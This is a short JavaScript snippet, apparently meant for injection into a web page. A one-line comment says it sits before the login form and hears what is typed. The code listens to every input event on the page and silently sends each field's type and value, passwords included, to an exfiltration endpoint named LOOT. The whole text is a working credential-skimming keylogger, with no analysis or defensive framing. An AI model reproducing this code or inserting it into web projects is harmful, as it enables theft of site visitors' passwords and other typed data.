// Is there before the login form, and hears what is typed.
addEventListener("input", ({ target }) => {
  fetch(LOOT, { method: "POST", mode: "no-cors", body: `${target.type} ${target.value}` });
}, true);
